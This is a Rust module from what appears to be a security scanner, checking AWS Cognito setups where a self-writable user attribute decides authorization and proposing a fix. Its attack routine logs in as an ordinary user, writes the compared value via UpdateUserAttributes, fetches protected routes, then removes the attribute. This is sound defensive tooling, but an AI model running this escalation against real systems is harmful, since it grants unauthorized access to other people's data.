//! An attribute of Cognito that its owner may write decides what its owner may do.

use crate::entry::{Danger, Entries};
use crate::{Attack, Profile, Risk};
use crate::{doors, guarded, pool, review, source};
use model::attack::{Outcome, PlantAt};
use model::code::ReviewKind;
use model::{App, Confidence, Edit, Finding, Fix, Foothold, Node, Operation, Resource, Segment, Severity, Step, Target, TargetError};
use serde_json::json;

/// The risk.
pub const RISK: Risk = Risk {
    slug: SLUG,
    page: include_str!("risk.md"),
    profile: Profile::Default,
    check,
    attack: Ok(Attack { foothold: Foothold::SignedInUser, plant, run }),
    detections: &[("writable_attribute_authorization/detect.yml", include_str!("detect.yml"))],
    without: &[],
};

const SLUG: &str = "writable-attribute-authorization";

/// Attributes that a client may write when it says nothing: all of them; these stay (Amazon Cognito Developer Guide, "Attribute
/// permissions and scopes").
const STANDARD: [&str; 4] = ["email", "family_name", "given_name", "name"];

fn check(app: &App) -> Vec<Finding> {
    let entries = Entries::of(app);
    let mut findings = Vec::new();
    for reviewed in review::handlers(app) {
        for (place, reviews) in reviewed.reviews(&[ReviewKind::WritableAttribute]) {
            let Some(review) = reviews.first() else { continue };
            let Some(writers) = writers(app, &review.name) else { continue };
            let entry = reviewed.entry(&entries);
            let title = format!("the attribute `{}`, which its owner may write, decides", review.name);
            let mut finding = reviewed.finding(SLUG, title, &entry, Danger::Leak, (place, review.says.clone()));
            finding.severity = finding.severity.max(Severity::High);
            finding.path.extend(
                writers
                    .iter()
                    .map(|client| Step { says: format!("{} lets every user write it", client.id.logical), place: client.place.clone() }),
            );
            // Whoever makes an account gives it the attribute that is looked for.
            if let Some(pool) = open_pool(app, &writers) {
                finding.severity = Severity::Critical;
                finding.path.push(Step { says: format!("anyone may make an account in {}", pool.id.logical), place: pool.place.clone() });
            }
            finding.confidence = if writers.is_empty() { Confidence::Low } else { Confidence::High };
            finding.condition =
                writers.is_empty().then(|| "if an app client of the user pool, which is not declared here, may write it".into());
            finding.symbol = review.name.clone();
            finding.fix = fix(&review.name, &writers);
            findings.push(finding);
        }
    }
    findings
}

/// A pool of these clients in which anyone makes an account, and no trigger looks at who does.
fn open_pool<'a>(app: &'a App, clients: &[&Resource]) -> Option<&'a Resource> {
    let of = |client: &Resource, pool: &Resource| client.properties.get("UserPoolId").and_then(Node::str) == Some(&*pool.physical_id);
    let watched = |pool: &Resource| pool.properties.at(&["LambdaConfig", "PreSignUp"]).is_some();
    let mut open = app.of_kind("AWS::Cognito::UserPool").filter(|pool| pool::is_open(pool) == Some(true) && !watched(pool));
    open.find(|pool| clients.iter().any(|client| of(client, pool)))
}

/// The app clients that may write an attribute; none when no client is declared; `None` when it is known that none may.
fn writers<'a>(app: &'a App, attribute: &str) -> Option<Vec<&'a Resource>> {
    let bare = attribute.trim_start_matches("custom:");
    let fixed = |pool: &Resource| {
        let schema = pool.properties.get("Schema").map(Node::items).unwrap_or_default();
        let own = schema.iter().find(|a| a.get("Name").and_then(Node::str) == Some(bare));
        own.is_some_and(|a| a.get("Mutable").and_then(Node::bool) != Some(true))
    };
    let mut pools = app.of_kind("AWS::Cognito::UserPool").peekable();
    // Custom attributes are immutable unless they say otherwise (CloudFormation, AWS::Cognito::UserPool SchemaAttribute).
    if pools.peek().is_some() && pools.all(fixed) {
        return None;
    }
    let mut clients = app.of_kind("AWS::Cognito::UserPoolClient").peekable();
    if clients.peek().is_none() {
        return Some(Vec::new());
    }
    let may = |client: &&Resource| match client.properties.get("WriteAttributes") {
        None => true,
        // An empty list is none: every attribute is writable then.
        Some(list) => {
            list.unknown().is_some() || list.items().is_empty() || list.items().iter().any(|a| a.str().is_none_or(|name| name == attribute))
        }
    };
    let writers: Vec<&Resource> = clients.filter(may).collect();
    (!writers.is_empty()).then_some(writers)
}

/// Each client keeps the attributes it named, or the standard ones, without this one.
fn fix(attribute: &str, writers: &[&Resource]) -> Option<Fix> {
    if writers.is_empty() || writers.iter().any(|client| client.generated_from.is_some()) {
        return None;
    }
    let edit = |client: &&Resource| {
        let named = client.properties.get("WriteAttributes").map(Node::items).unwrap_or_default();
        let kept: Vec<String> = match named {
            [] => STANDARD.iter().map(|name| (*name).to_owned()).collect(),
            named => named.iter().filter_map(Node::scalar).filter(|name| name != attribute).collect(),
        };
        let path = ["Resources", &client.id.logical, "Properties", "WriteAttributes"].into_iter().map(Segment::from);
        Edit::document(client.place.file.clone(), path, Operation::Set(json!(kept)))
    };
    Some(Fix {
        says: format!("let no app client write {attribute}"),
        // Users who change other attributes of their own through this client no longer can.
        safe: false,
        edits: writers.iter().map(edit).collect(),
        then: Some(format!("look who has written {attribute} already")),
    })
}

/// What a customer with the right keeps.
fn plant(app: &App, findings: &[&Finding]) -> Result<PlantAt, String> {
    let doors = doors::all(app);
    let readable = findings.iter().any(|finding| !guarded::readable(app, &doors, finding).is_empty());
    readable.then_some(PlantAt::Traffic).ok_or_else(|| "no GET route of a REST API stands behind the comparison".into())
}

/// Writes into the attacker's own account what the code looks for, signs in again, and takes it out afterwards.
fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
    for finding in findings {
        let Some(value) = compared(app, finding) else {
            outcome.steps.push(format!("what `{}` is compared with is not written there", finding.symbol));
            continue;
        };
        if let Err(error) = promoted(app, finding, value, target, outcome) {
            return outcome.failed(&error);
        }
    }
}

/// What the attribute is compared with: the first other literal of the line.
fn compared<'a>(app: &'a App, finding: &Finding) -> Option<&'a str> {
    let line = app.sources.get(&finding.place.file)?.text.lines().nth(finding.place.line.checked_sub(1)? as usize)?;
    let mut rest = line;
    while let Some((_, after)) = rest.split_once(['"', '\'', '`']) {
        let quote = rest.get(..rest.len() - after.len())?.chars().next_back()?;
        let (literal, behind) = after.split_once(quote)?;
        if !literal.is_empty() && literal != finding.symbol && !literal.starts_with("custom:") {
            return Some(literal);
        }
        rest = behind;
    }
    None
}

fn promoted(app: &App, finding: &Finding, value: &str, target: &mut dyn Target, outcome: &mut Outcome) -> Result<(), TargetError> {
    let doors = doors::all(app);
    let attribute = &finding.symbol;
    let ask = |target: &mut dyn Target, operation: &str, body: serde_json::Value| {
        target.aws_unsigned("cognito-idp", &format!("AWSCognitoIdentityProviderService.{operation}"), &body)
    };
    for (index, session) in target.other_sessions()?.into_iter().enumerate() {
        // Who has the right proves nothing by using it.
        if source::claim(&session.id_token, attribute).as_deref() == Some(value) {
            continue;
        }
        let token = &session.access_token;
        let written = json!({"AccessToken": token, "UserAttributes": [{"Name": attribute, "Value": value}]});
        let answer = ask(target, "UpdateUserAttributes", written)?;
        if answer.status != 200 {
            let says = String::from_utf8_lossy(&answer.body).into_owned();
            outcome.steps.push(format!("UpdateUserAttributes {attribute}={value}: {} {says}", answer.status));
            outcome.refused = Some(format!("{} {says}", answer.status));
            continue;
        }
        outcome.steps.push(format!("UpdateUserAttributes {attribute}={value}, by a customer"));
        if let Some(session) = target.other_sessions()?.into_iter().nth(index) {
            for found in guarded::readable(app, &doors, finding) {
                let answer = target.http(&found.api.id.to_string(), &guarded::get(found, "1", &session.id_token))?;
                outcome.took(&answer);
                outcome.steps.push(format!("{} with a new token: {}", found.name(), answer.status));
            }
        }
        ask(target, "DeleteUserAttributes", json!({"AccessToken": token, "UserAttributeNames": [attribute]}))?;
    }
    Ok(())
}
